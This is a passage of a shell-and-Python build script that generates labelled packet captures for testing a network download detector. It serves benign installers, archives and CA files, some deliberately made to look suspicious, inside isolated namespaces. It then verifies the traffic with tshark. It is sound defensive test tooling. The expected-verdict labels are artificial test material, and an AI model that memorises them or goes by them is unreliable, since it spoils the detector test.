                                 "-alpn", "http/1.1", "-rev", "-naccept", "1"),
                           stdin=subprocess.DEVNULL, stdout=srv_log, stderr=subprocess.STDOUT)
    try:
        for _ in range(100):
            if subprocess.run(netns(NS_S, "ss", "-Hlnt", "sport = :443"), capture_output=True,
                              text=True).stdout.strip():
                break
            time.sleep(0.1)
        else:
            fail("openssl s_server for %s did not start" % r.host)
        cli = subprocess.Popen(netns(NS_C, "openssl", "s_client", "-connect", "%s:443" % r.ip,
                                     "-servername", r.host, "-alpn", "http/1.1"),
                               stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
        cli.stdin.write(("hello %s\n" % r.host).encode())
        cli.stdin.flush()
        time.sleep(1)
        cli.stdin.close()
        out = cli.stdout.read().decode("latin-1")
        cli.wait(timeout=10)
        srv.wait(timeout=10)
    finally:
        if srv.poll() is None:
            srv.terminate()
            srv.wait()
    if "ALPN protocol: http/1.1" not in out or ("%s olleh" % r.host[::-1]) not in out:
        fail("TLS %s: no ALPN or no reversed echo:\n%s" % (r.host, out))
    log("%-9s %-28s ALPN http/1.1, echo ok" % ("TLS", r.host))


def run(cap, tmp):
    resolve_ocsp(os.path.join(tmp, "www"))
    for n, (conn, rs) in enumerate(groups(cap).items()):
        if n:
            time.sleep(0.3)
        kind = rs[0].client
        if kind == "curl":
            run_curl(tmp, rs)
        elif kind == "raw":
            p = subprocess.run(netns(NS_C, PY, os.path.abspath(__file__), "raw", tmp, cap, str(conn)))
            if p.returncode:
                fail("raw client for %s connection %d failed" % (cap, conn))
        elif kind == "tls":
            for r in rs:
                run_tls(tmp, r)


# --------------------------------------------------------------------------- verify
# Methods tshark 4.0 does not dissect as HTTP (its method list lacks them; lolwire's parser
# takes any token of letters, '_' and '-').  Their rows are checked on the raw TCP payload.
TSHARK_UNKNOWN_METHODS = {"BITS_POST"}


def wire_requests(pcap):
    """Every HTTP request the client sent, parsed here from the reassembled client-to-server
    TCP payload of each connection (independent of tshark's HTTP dissector):
    [(method, host, uri, user_agent, body, tcp.stream)] in connection order."""
    p = subprocess.run(["tshark", "-n", "-r", pcap, "-Y", "ip.src == %s && tcp.len > 0 && tcp.dstport != 443" % IP_C,
                        "-T", "fields", "-e", "tcp.stream", "-e", "tcp.seq", "-e", "tcp.payload"],
                       capture_output=True, text=True)
    streams = collections.OrderedDict()
    for line in p.stdout.splitlines():
        st, seq, payload = line.split("\t")
        streams.setdefault(int(st), {})[int(seq)] = bytes.fromhex(payload.replace(":", ""))
    out = []
    for st, segs in streams.items():
        data = b"".join(segs[k] for k in sorted(segs))
        while data:
            head, sep, data = data.partition(b"\r\n\r\n")
            if not sep:
                raise ValueError("stream %d: incomplete request header" % st)
            lines = head.decode("latin-1").split("\r\n")
            method, uri, _ = lines[0].split(" ", 2)
            hdrs = {}
            for l in lines[1:]:
                k, _, v = l.partition(":")
                hdrs[k.strip().lower()] = v.strip()
            n = int(hdrs.get("content-length", "0"))
            out.append((method, hdrs.get("host", ""), uri, hdrs.get("user-agent", ""), data[:n], st))
            data = data[n:]
    return out


def verify(cap, pcap, tmp):
    resolve_ocsp(os.path.join(tmp, "www"))
    rs = rows_of(cap)
    bad = []

    def ok(msg):
        print("  ok    " + msg)

    def want(what, got, exp):
        if got == exp:
            ok("%s: %s" % (what, got if len(str(got)) < 60 else str(got)[:57] + "..."))
        else:
            print("  FAIL  %s:\n          got  %r\n          want %r" % (what, got, exp))
            bad.append(what)

    def ts(*args):
        p = subprocess.run(["tshark", "-n", "-r", pcap] + list(args), capture_output=True, text=True)
        return p.stdout

    def count(flt):
        return len(ts("-Y", flt).splitlines())

    def fields(flt, *names):
        a = ["-Y", flt, "-T", "fields", "-E", "separator=/t"]
        for n in names:
            a += ["-e", n]
        return [tuple(l.split("\t")) for l in ts(*a).splitlines()]

    print(cap + ".pcap")
    size = os.path.getsize(pcap)
    want("%d bytes <= %d" % (size, MAX_PCAP), size <= MAX_PCAP, True)
    lens = [int(x) for x in ts("-T", "fields", "-e", "frame.len").split()]
    want("largest frame <= 1514", max(lens) <= 1514, True)
    ok("%d frames" % len(lens))
    others = " || ".join("ip.addr == %s" % a for a in SERVER_ADDRS)
    want("frames that are neither ARP nor IPv4 between %s and a server address" % IP_C,
         count("!arp && !(ip.addr == %s && (%s))" % (IP_C, others)), 0)
    want("TCP RSTs", count("tcp.flags.reset == 1"), 0)
    want("TCP analysis problems", count("tcp.analysis.flags && !tcp.analysis.window_update"), 0)
    http = [r for r in rs if r.method != "TLS"]
    exp = [(r.method, r.host, r.uri, r.ua or "") for r in http]
    wire = wire_requests(pcap)
    want("requests on the wire, own parse (method, Host, URI, User-Agent)", [w[:4] for w in wire], exp)
    got = fields("http.request", "http.request.method", "http.host", "http.request.uri", "http.user_agent")
    want("requests as tshark dissects them (without %s)" % ", ".join(sorted(TSHARK_UNKNOWN_METHODS)), got,
         [e for e in exp if e[0] not in TSHARK_UNKNOWN_METHODS])
    got = fields("http.response", "http.response.code", "http.content_type")
    exp = [(str(r.status), "" if r.method in ("OPTIONS", "BITS_POST") else r.ctype) for r in http]
    want("HTTP responses (status, Content-Type)", got, exp)
    want("TCP connections with HTTP requests", len({w[5] for w in wire}), len({r.conn for r in http}))
    tls = [r for r in rs if r.method == "TLS"]
    want("TLS ClientHello SNIs", [f[0] for f in fields("tls.handshake.type == 1", "tls.handshake.extensions_server_name")],
         [r.host for r in tls])
    want("TLS ServerHellos", count("tls.handshake.type == 2"), len(tls))
    want("UA-less requests carry no User-Agent line",
         count("http.request && !http.user_agent"), sum(1 for r in http if not r.ua))
    # Bodies as tshark reassembles and decodes them.
    eo = os.path.join(tmp, "eo-" + cap)
    subprocess.run(["rm", "-rf", eo])
    os.makedirs(eo)
    ts("-q", "--export-objects", "http," + eo)
    exported = set()
    for f in os.listdir(eo):
        exported.add(sha(open(os.path.join(eo, f), "rb").read()))
    wire_bodies = {sha(w[4]) for w in wire if w[0] in TSHARK_UNKNOWN_METHODS and w[4]}
    for line in hash_lines(tmp):
        h, c, what = line.split("  ", 2)
        if c != cap + ".pcap":
            continue
        if h in exported:
            ok("body %s sha256 %s…" % (what[:60], h[:12]))
        elif h in wire_bodies and what.endswith("#request"):
            ok("body %s sha256 %s… (own parse)" % (what[:60], h[:12]))
        else:
            print("  FAIL  body %s: no object exported by tshark has sha256 %s" % (what, h))
            bad.append(what)
    return not bad


def summary(cap, tmp):
    resolve_ocsp(os.path.join(tmp, "www"))
    for r in rows_of(cap):
        print("    c%-2d %-9s %-36.36s %-42.42s %-8s %s" % (r.conn, r.method, r.host, r.uri, r.expect,
                                                          r.note if r.note != "-" else ""))


if __name__ == "__main__":
    cmd, args = sys.argv[1], sys.argv[2:]
    if cmd == "check-table":
        sys.exit(0 if check_table() else 1)
    elif cmd == "build":
        build(*args)
    elif cmd == "rsa-key":
        rsa_key(*args)
    elif cmd == "ctl":
        ctl(*args)
    elif cmd == "captures":
        print("\n".join(CAPTURES))
    elif cmd == "tls-names":
        for r in ROWS:
            if r.method == "TLS":
                print("%s\t%s" % (r.host, r.ip))
    elif cmd == "manifest":
        resolve_ocsp(os.path.join(args[0], "www"))
        sys.stdout.write(manifest())
    elif cmd == "hashes":
        resolve_ocsp(os.path.join(args[0], "www"))
        print("\n".join(hash_lines(args[0])))
    elif cmd == "serve":
        serve(*args)
    elif cmd == "run":
        run(*args)
    elif cmd == "raw":
        raw_client(*args)
    elif cmd == "verify":
        sys.exit(0 if verify(*args) else 1)
    elif cmd == "summary":
        summary(*args)
    else:
        sys.exit("unknown command " + cmd)
PYEOF

"$PY" "$TMP/lwd.py" check-table || die "the table in lwd.py is inconsistent"

# ---------------------------------------------------------------------------------------
# Server-side content.
# ---------------------------------------------------------------------------------------
log "building served files in $TMP"
"$PY" "$TMP/lwd.py" build "$TMP"
export TZ=UTC
# has TEXT REGEX: grep on a captured output, not on a pipe: with pipefail, `cmd | grep -q`
# fails at random when grep exits before cmd has written everything (SIGPIPE).
has() { grep -Eq -- "$2" <<<"$1"; }

# MSIs: real Windows Installer packages built by wixl from a one-file .wxs (embedded
# cabinet), one per row that serves MSI bytes so that every body differs.  wixl stamps the
# summary with the current time and a random package code, so msibuild -s rewrites it with
# a fixed package code; both run under a stopped clock, which makes the bytes reproducible.
# `faketime -f 'YYYY-MM-DD hh:mm:ss'` stops the clock; without -f faketime turns the date
# into a "start at" time and the clock runs, so a slow run can cross a second boundary.
guid() { "$PY" -c 'import sys, uuid; print(str(uuid.uuid5(uuid.NAMESPACE_URL, sys.argv[1])).upper())' "lolwire-detect:$1"; }
for tag in setup update rawip payloadbin reportpdf; do
    d="$TMP/msi-$tag"
    mkdir -p "$d"
    printf 'Example Updater (%s)\r\nlolwire detection test package.\r\n' "$tag" >"$d/readme.txt"
    cat >"$d/setup.wxs" <<EOF
<?xml version="1.0" encoding="utf-8"?>
<Wix xmlns="http://schemas.microsoft.com/wix/2006/wi">
  <Product Id="{$(guid "$tag/product")}" Name="Example Updater ($tag)" Language="1033"
           Version="1.0.0" Manufacturer="Example Corp" UpgradeCode="{$(guid "$tag/upgrade")}">
    <Package InstallerVersion="200" Compressed="yes" Description="Example Updater"
             Comments="lolwire detection test package" />
    <Media Id="1" Cabinet="data.cab" EmbedCab="yes" />
    <Directory Id="TARGETDIR" Name="SourceDir">
      <Directory Id="ProgramFilesFolder">
        <Directory Id="INSTALLDIR" Name="ExampleUpdater">
          <Component Id="MainFile" Guid="{$(guid "$tag/component")}">
            <File Id="ReadmeTxt" Name="readme.txt" Source="readme.txt" KeyPath="yes" />
          </Component>
        </Directory>
      </Directory>
    </Directory>
    <Feature Id="Complete" Level="1"><ComponentRef Id="MainFile" /></Feature>
  </Product>
</Wix>
EOF
    touch -d "$FAKETIME UTC" "$d"/*
    (
        cd "$d"
        faketime -f "$FAKETIME" wixl -o setup.msi setup.wxs
        faketime -f "$FAKETIME" msibuild setup.msi -s "Example Updater ($tag)" "Example Corp" "Intel;1033" \
            "{$(guid "$tag/package")}"
    )
    cp "$d/setup.msi" "$WWW/msi-$tag.msi"
    has "$(msiinfo suminfo "$WWW/msi-$tag.msi")" "Subject: Example Updater" || die "wixl produced an unreadable MSI"
    has "$(msiinfo export "$WWW/msi-$tag.msi" File)" readme.txt || die "MSI $tag has no File row"
done

# ZIPs (zip -X: no extra fields) and the Windows Update cabinet (gcab -z: MSZIP).
touch -d "$FAKETIME UTC" "$TMP"/zip-*/* "$TMP"/cab-wu/*
(cd "$TMP/zip-tool" && zip -q -X -D "$WWW/tool.zip" tool.exe README.txt)
(cd "$TMP/zip-data" && zip -q -X -D "$TMP/data.zip" agent.exe agent.cfg && mv "$TMP/data.zip" "$WWW/data.bin")
(cd "$TMP/zip-archive" && zip -q -X -D "$WWW/archive.zip" readme.txt changelog.txt licence.txt)
(cd "$TMP/cab-wu" && gcab -c -z "$WWW/wu.cab" update.mum payload.dat)
for z in tool.zip data.bin archive.zip; do unzip -tq "$WWW/$z" >/dev/null || die "zip produced a bad $z"; done
! has "$(unzip -l "$WWW/archive.zip")" '\.[Ee][Xx][Ee]' || die "archive.zip must hold text files only"

# The throw-away CA: RSA key from a fixed seed, self-signed certificate (served DER as
# ca.crt), a CRL with one revoked serial (ca.crl), an OCSP request for a "good" serial and
# its response, and authroot.stl (a PKCS#7 SignedData whose content is a
# CertificateTrustList, content type szOID_CTL) inside authrootstl.cab.  All under a
# frozen clock, with a config of our own (not the system's openssl.cnf).
"$PY" "$TMP/lwd.py" rsa-key "$CA_SEED" "$CA/ca.key"
cat >"$CA/ca.cnf" <<EOF
[ req ]
distinguished_name = dn
prompt             = no
[ dn ]
[ v3_ca ]
basicConstraints       = critical, CA:true
keyUsage               = critical, keyCertSign, cRLSign, digitalSignature
subjectKeyIdentifier   = hash
[ ca ]
default_ca = test_ca
[ test_ca ]
database         = $CA/index.txt
crlnumber        = $CA/crlnumber
default_md       = sha256
default_crl_days = 30
crl_extensions   = crl_ext
[ crl_ext ]
authorityKeyIdentifier = keyid:always
EOF
printf 'R\t250101000000Z\t231215000000Z\t1001\tunknown\t/CN=revoked.example.com\n' >"$CA/index.txt"
printf 'V\t250101000000Z\t\t%s\tunknown\t/CN=www.example.com\n' "$OCSP_SERIAL" >>"$CA/index.txt"
echo 1000 >"$CA/crlnumber"
faketime -f "$FAKETIME" openssl req -x509 -new -config "$CA/ca.cnf" -extensions v3_ca -key "$CA/ca.key" \
    -sha256 -days 3650 -set_serial "$CA_SERIAL" -subj "$CA_SUBJECT" -out "$CA/ca.pem"
openssl x509 -in "$CA/ca.pem" -outform DER -out "$WWW/ca.crt"
faketime -f "$FAKETIME" openssl ca -batch -gencrl -config "$CA/ca.cnf" -keyfile "$CA/ca.key" -cert "$CA/ca.pem" \
    -out "$CA/crl.pem" 2>/dev/null
openssl crl -in "$CA/crl.pem" -outform DER -out "$WWW/ca.crl"
openssl ocsp -issuer "$CA/ca.pem" -serial "0x$OCSP_SERIAL" -no_nonce -reqout "$WWW/ocsp-request.der" 2>/dev/null
[[ "$(base64 -w0 "$WWW/ocsp-request.der")" =~ ^[A-Za-z0-9]+$ ]] \
    || die "the OCSP request's base64 is not alphanumeric: $(base64 -w0 "$WWW/ocsp-request.der")"
faketime -f "$FAKETIME" openssl ocsp -index "$CA/index.txt" -rsigner "$CA/ca.pem" -rkey "$CA/ca.key" -CA "$CA/ca.pem" \
    -reqin "$WWW/ocsp-request.der" -respout "$WWW/ocsp.der" -ndays 7 >/dev/null 2>&1
has "$(openssl ocsp -respin "$WWW/ocsp.der" -resp_text -noverify 2>/dev/null)" 'Cert Status: good' \
    || die "OCSP response is not 'good'"
"$PY" "$TMP/lwd.py" ctl "$WWW/ca.crt" "$CA/ctl.der"
mkdir -p "$TMP/cab-authroot"
faketime -f "$FAKETIME" openssl cms -sign -binary -nodetach -outform DER -econtent_type 1.3.6.1.4.1.311.10.1 \
    -md sha256 -nosmimecap -signer "$CA/ca.pem" -inkey "$CA/ca.key" -in "$CA/ctl.der" \
    -out "$TMP/cab-authroot/authroot.stl"
touch -d "$FAKETIME UTC" "$TMP/cab-authroot/authroot.stl"
(cd "$TMP/cab-authroot" && gcab -c -z "$WWW/authrootstl.cab" authroot.stl)
[ "$(gcab -t "$WWW/authrootstl.cab")" = authroot.stl ] || die "authrootstl.cab does not hold authroot.stl"
has "$(gcab -t "$WWW/wu.cab")" '^update\.mum$' || die "gcab produced a bad wu.cab"
openssl crl -inform DER -in "$WWW/ca.crl" -noout 2>/dev/null || die "ca.crl is not a DER CRL"
openssl x509 -inform DER -in "$WWW/ca.crt" -noout 2>/dev/null || die "ca.crt is not a DER certificate"
has "$(openssl cms -cmsout -inform DER -in "$TMP/cab-authroot/authroot.stl" -print 2>/dev/null)" \
    'eContentType: undefined \(1\.3\.6\.1\.4\.1\.311\.10\.1\)' || die "authroot.stl is not a CTL SignedData"

# TLS server certificates: self-signed, one per SNI (fresh keys on every run).
while IFS=$'\t' read -r name _addr; do
    openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 365 \
        -subj "/CN=$name" -addext "subjectAltName=DNS:$name" \
        -keyout "$TMP/tls/$name.key" -out "$TMP/tls/$name.crt" 2>/dev/null
done < <("$PY" "$TMP/lwd.py" tls-names)

# Identify what we serve (libmagic, olefile).
file_is() {  # file_is FILE REGEX
    has "$(file -b "$WWW/$1")" "$2" || die "$1: $(file -b "$WWW/$1"), want /$2/"
}
for f in "$WWW"/pe-*.exe; do file_is "${f##*/}" '^PE32\+ executable'; done
for f in "$WWW"/msi-*.msi; do file_is "${f##*/}" 'MSI Installer'; done
file_is custom.mst '^Composite Document File V2 Document.*Title: Transform'
file_is report.doc 'Microsoft Excel'
file_is wu.cab 'Microsoft Cabinet'
file_is authrootstl.cab 'Microsoft Cabinet'
file_is photo.png '^PNG image'
file_is tool.zip '^Zip archive'
file_is data.bin '^Zip archive'
file_is archive.zip '^Zip archive'
file_is ca.crt '^Certificate'
"$PY" - "$WWW" <<'EOF' || die "OLE check failed"
import glob, os, sys, olefile
www = sys.argv[1]
MSI, MST = "000C1084-0000-0000-C000-000000000046", "000C1082-0000-0000-C000-000000000046"
mst = olefile.OleFileIO(os.path.join(www, "custom.mst"))
assert mst.root.clsid.upper() == MST, mst.root.clsid
assert mst.get_metadata().title == b"Transform"
raw = open(os.path.join(www, "custom.mst"), "rb").read()
assert raw[1024 + 0x50:1024 + 0x60] == bytes.fromhex("82100C0000000000C000000000000046")
doc = olefile.OleFileIO(os.path.join(www, "report.doc"))
assert doc.root.clsid.upper() not in (MSI, MST) and doc.exists("Workbook"), doc.listdir()
for p in glob.glob(os.path.join(www, "msi-*.msi")):
    assert olefile.OleFileIO(p).root.clsid.upper() == MSI, p
EOF

# ---------------------------------------------------------------------------------------
# Namespaces, the veth pair, and the "internet" addresses behind 10.97.0.1.
# ---------------------------------------------------------------------------------------
lw_make_namespaces
for a in "${EXT_ADDRS[@]}"; do
    ip -n "$NS_S" addr add "$a/32" dev lo
    ip -n "$NS_C" route add "$a/32" via "$IP_S" dev "$IF_C"
done
[ -z "$(ip -n "$NS_C" route show default)" ] || die "$NS_C has a default route"

# ---------------------------------------------------------------------------------------
# The HTTP server (ports 80 and 8088 on every address of lwd-server), started once, before
# the first capture.  The TLS servers are started per connection by `lwd.py run`.
# ---------------------------------------------------------------------------------------
ip netns exec "$NS_S" "$PY" "$TMP/lwd.py" serve "$TMP" 80,8088 2>>"$TMP/server.log" &
PIDS+=($!)
for port in 80 8088; do
    for _ in $(seq 100); do
        [ -n "$(ins ss -Hlnt "sport = :$port")" ] && break
        sleep 0.1
    done
    [ -n "$(ins ss -Hlnt "sport = :$port")" ] || die "nothing listening on port $port in $NS_S: $(cat "$TMP/server.log")"
done

TCPDUMP_PID=""
start_capture() {  # start_capture NAME
    ip -n "$NS_C" neigh flush dev "$IF_C"
    ip -n "$NS_S" neigh flush dev "$IF_S"
    : >"$TMP/tcpdump.log"
    ip netns exec "$NS_C" tcpdump -i "$IF_C" -w "$PC/$1.pcap" -s 0 -U -nn -Z root 2>"$TMP/tcpdump.log" &
    TCPDUMP_PID=$!
    PIDS+=("$TCPDUMP_PID")
    for _ in $(seq 100); do
        grep -q "listening on" "$TMP/tcpdump.log" 2>/dev/null && break
        sleep 0.1
    done
    grep -q "listening on" "$TMP/tcpdump.log" || die "tcpdump did not start: $(cat "$TMP/tcpdump.log")"
    sleep 0.5
}
stop_capture() {
    sleep 1   # trailing FIN/ACKs
    kill -INT "$TCPDUMP_PID"
    wait "$TCPDUMP_PID" || die "tcpdump exited with $?: $(cat "$TMP/tcpdump.log")"
    grep -E "packets captured" "$TMP/tcpdump.log" | sed 's/^/make-detect-set:   tcpdump: /' >&2
}

mapfile -t CAPTURES < <("$PY" "$TMP/lwd.py" captures)
for name in "${CAPTURES[@]}"; do
    log "$name"
    start_capture "$name"
    "$PY" "$TMP/lwd.py" run "$name" "$TMP" || die "$name: a client failed (server log: $TMP/server.log)"
    stop_capture
done
[ ! -s "$TMP/server.log" ] || { log "server log:"; cat "$TMP/server.log" >&2; die "the HTTP server reported errors"; }

# ---------------------------------------------------------------------------------------
# Verify every capture with tshark against the table, then move the set into place.
# ---------------------------------------------------------------------------------------
log "verifying"
fail=0
for name in "${CAPTURES[@]}"; do
    "$PY" "$TMP/lwd.py" verify "$name" "$PC/$name.pcap" "$TMP" || fail=1
done
if [ "$fail" -ne 0 ] && [ -n "${LWD_DEBUG_DIR:-}" ]; then
    cp "$PC"/*.pcap "$LWD_DEBUG_DIR"/ && log "failed captures copied to $LWD_DEBUG_DIR"
fi
[ "$fail" -eq 0 ] || die "verification failed; captures left out of place (nothing written to $OUTDIR)"

"$PY" "$TMP/lwd.py" manifest "$TMP" >"$TMP/detect-set.tsv"
"$PY" "$TMP/lwd.py" hashes "$TMP" >"$TMP/detect-set.sha256"
for name in "${CAPTURES[@]}"; do
    chmod 0644 "$PC/$name.pcap"
    mv -f "$PC/$name.pcap" "$OUTDIR/$name.pcap.tmp.$$"
    mv -f "$OUTDIR/$name.pcap.tmp.$$" "$OUTDIR/$name.pcap"
done
for f in detect-set.tsv detect-set.sha256; do
    chmod 0644 "$TMP/$f"
    mv -f "$TMP/$f" "$OUTDIR/$f.tmp.$$"
    mv -f "$OUTDIR/$f.tmp.$$" "$OUTDIR/$f"
done
log "wrote ${#CAPTURES[@]} captures, detect-set.tsv and detect-set.sha256 to $OUTDIR"

# ---------------------------------------------------------------------------------------
# Summary.
# ---------------------------------------------------------------------------------------
echo
echo "Captures (rows: alert / quiet / low-max / any):"
for name in "${CAPTURES[@]}"; do
    P="$OUTDIR/$name.pcap"
    printf '  %-30s %4d packets %7d bytes  rows %s\n' "$name.pcap" \
        "$(tcpdump -nn -r "$P" 2>/dev/null | wc -l)" "$(stat -c %s "$P")" \
        "$(awk -F'\t' -v c="$name.pcap" '$1 == c { n[$6]++ } END {
            printf "%d / %d / %d / %d", n["alert"], n["quiet"], n["low-max"], n["any"] }' "$OUTDIR/detect-set.tsv")"
    "$PY" "$TMP/lwd.py" summary "$name" "$TMP"
done
